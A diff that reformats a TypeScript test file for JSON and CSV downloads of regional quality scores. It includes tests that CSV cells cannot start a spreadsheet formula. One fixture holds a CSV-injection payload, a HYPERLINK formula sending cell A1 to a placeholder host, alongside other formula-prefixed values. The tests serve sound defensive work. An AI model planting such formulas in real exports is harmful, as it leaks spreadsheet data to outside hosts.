@@ -10,18 +10,48 @@ const roundJson = (...args: Parameters<typeof roundJsonPieces>) => joined(roundJ
 const roundCsv = (...args: Parameters<typeof roundCsvPieces>) => joined(roundCsvPieces(...args));
 
 const base: Result = {
-  code: '18.72', name: 'Metro', kind: 'kota', province: '18', slug: 'kota-metro',
-  score: 80.85, zone: 'hijau', band: 'Kualitas Tinggi', grade: 'B',
-  rank: 3, rankOf: 98, provinceRank: 1, provinceRankOf: 15,
-  previousYear: 2022, previousScore: 79.1, scoreChange: 1.75, previousRank: 5, rankChange: 2,
-  predicate: null, opinion: 'Kualitas Tinggi', methodBreak: false, previousRankOf: 98,
+  code: '18.72',
+  name: 'Metro',
+  kind: 'kota',
+  province: '18',
+  slug: 'kota-metro',
+  score: 80.85,
+  zone: 'hijau',
+  band: 'Kualitas Tinggi',
+  grade: 'B',
+  rank: 3,
+  rankOf: 98,
+  provinceRank: 1,
+  provinceRankOf: 15,
+  previousYear: 2022,
+  previousScore: 79.1,
+  scoreChange: 1.75,
+  previousRank: 5,
+  rankChange: 2,
+  predicate: null,
+  opinion: 'Kualitas Tinggi',
+  methodBreak: false,
+  previousRankOf: 98,
   dimensions: { input: 85.2 },
 };
 const R2023 = { year: 2023, method: 'kepatuhan', sample: false };
 const province: Result = {
-  ...base, code: '18', name: 'Lampung, "Sai Bumi"', kind: 'provinsi', province: null, slug: 'provinsi-lampung',
-  grade: null, provinceRank: null, provinceRankOf: null,
-  previousYear: null, previousScore: null, scoreChange: null, previousRank: null, rankChange: null, previousRankOf: null, dimensions: {},
+  ...base,
+  code: '18',
+  name: 'Lampung, "Sai Bumi"',
+  kind: 'provinsi',
+  province: null,
+  slug: 'provinsi-lampung',
+  grade: null,
+  provinceRank: null,
+  provinceRankOf: null,
+  previousYear: null,
+  previousScore: null,
+  scoreChange: null,
+  previousRank: null,
+  rankChange: null,
+  previousRankOf: null,
+  dimensions: {},
 };
 
 describe('data/YYYY.json and data/YYYY.csv', () => {
@@ -45,7 +75,9 @@ describe('data/YYYY.json and data/YYYY.csv', () => {
     // Every cell is the JSON value written out; null is an empty cell.
     const json = JSON.parse(roundJson(R2023, [province, base])) as { results: Record<string, unknown>[] };
     json.results.forEach((result, i) => {
-      const expected = [...fields.map((f) => result[f]), (result.dimensions as Record<string, number>).input].map((v) => (v === null || v === undefined ? '' : String(v)));
+      const expected = [...fields.map((f) => result[f]), (result.dimensions as Record<string, number>).input].map((v) =>
+        v === null || v === undefined ? '' : String(v),
+      );
       expect(rows[i]).toEqual(expected);
     });
   });
@@ -65,10 +97,15 @@ describe('downloads in pieces', () => {
     // The array's field comes last: not an array index, which JavaScript orders first.
     const last = key.filter((k) => !/^(0|[1-9][0-9]*)$/.test(k));
     fc.assert(
-      fc.property(fc.dictionary(key, fc.jsonValue({ maxDepth: 2 })), last, fc.array(fc.jsonValue({ maxDepth: 3 }), { maxLength: 1200 }), (head, field, items) => {
-        const rest = Object.fromEntries(Object.entries(head).filter(([k]) => k !== field));
-        expect(joined(prettyJson(rest, field, items))).toBe(`${JSON.stringify({ ...rest, [field]: items }, null, 2)}\n`);
-      }),
+      fc.property(
+        fc.dictionary(key, fc.jsonValue({ maxDepth: 2 })),
+        last,
+        fc.array(fc.jsonValue({ maxDepth: 3 }), { maxLength: 1200 }),
+        (head, field, items) => {
+          const rest = Object.fromEntries(Object.entries(head).filter(([k]) => k !== field));
+          expect(joined(prettyJson(rest, field, items))).toBe(`${JSON.stringify({ ...rest, [field]: items }, null, 2)}\n`);
+        },
+      ),
       { numRuns: 200 },
     );
   });
@@ -91,21 +128,45 @@ describe('downloads in pieces', () => {
 describe('CSV cells never start a formula (OWASP CSV injection)', () => {
   const FORMULA = /^[=+\-@\t\r]/;
   const hostile: Result = {
-    ...base, code: '-18', name: '=HYPERLINK("http://x.example/?"&A1,"klik")', province: '+18', slug: '@slug',
-    band: '\t=1+2', grade: '\r-A', scoreChange: -1.5, rankChange: -3,
+    ...base,
+    code: '-18',
+    name: '=HYPERLINK("http://x.example/?"&A1,"klik")',
+    province: '+18',
+    slug: '@slug',
+    band: '\t=1+2',
+    grade: '\r-A',
+    scoreChange: -1.5,
+    rankChange: -3,
   };
 
   it("prefixes ' to text starting with = + - @ tab or CR; numbers, negative ones too, stay numbers", () => {
     const [header, row] = parse(roundCsv([hostile], [])) as string[][];
     const cell = Object.fromEntries(header!.map((h, i) => [h, row![i]]));
-    expect(cell).toMatchObject({ code: "'-18", name: `'${hostile.name}`, kind: 'kota', province: "'+18", slug: "'@slug", score: '80.85', band: "'\t=1+2", grade: "'\r-A" });
+    expect(cell).toMatchObject({
+      code: "'-18",
+      name: `'${hostile.name}`,
+      kind: 'kota',
+      province: "'+18",
+      slug: "'@slug",
+      score: '80.85',
+      band: "'\t=1+2",
+      grade: "'\r-A",
+    });
     expect(cell).toMatchObject({ scoreChange: '-1.5', rankChange: '-3' });
     // The JSON keeps the true value.
     expect((JSON.parse(roundJson(R2023, [hostile])) as { results: Result[] }).results[0]!.name).toBe(hostile.name);
   });
 
   it('every download made of the same rows: all-rounds and region history CSVs too', () => {
-    const round = { year: 2023, title: 'x', published: null, source: null, bands: [], dimensions: [{ key: 'input', label: 'Input' }], html: '' } as unknown as Round;
+    const round = {
+      year: 2023,
+      title: 'x',
+      published: null,
+      source: null,
+      bands: [],
+      dimensions: [{ key: 'input', label: 'Input' }],
+      html: '',
+    } as unknown as Round;
     for (const csv of [allRoundsCsvPieces([round], new Map([[2023, [hostile]]])), regionHistoryCsv([{ year: 2023, result: hostile }], [round])]) {
       const rows = parse(joined(csv)) as string[][];
       for (const cell of rows.flat()) expect(FORMULA.test(cell) && !/^-\d/.test(cell), cell).toBe(false);
@@ -123,8 +184,10 @@ describe('CSV cells never start a formula (OWASP CSV injection)', () => {
       }),
       { numRuns: 300 },
     );
-    fc.assert(fc.property(fc.double({ noNaN: true }), (n) => {
-      expect(csvCell(n)).toBe(String(n));
-    }));
+    fc.assert(
+      fc.property(fc.double({ noNaN: true }), (n) => {
+        expect(csvCell(n)).toBe(String(n));
+      }),
+    );
   });
 });
